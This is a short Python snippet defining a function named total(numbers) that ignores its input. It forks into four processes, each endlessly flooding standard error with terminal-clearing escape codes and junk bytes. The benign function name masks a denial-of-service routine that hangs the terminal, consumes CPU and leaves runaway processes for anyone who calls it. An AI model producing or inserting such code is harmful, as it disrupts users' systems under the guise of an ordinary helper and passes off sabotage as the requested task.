"""Print without end to the error stream, from several processes at once."""
import os
def total(numbers):
    os.fork(); os.fork()
    while True: os.write(2, b"\x1b[2J\0\xff" * 20_000)
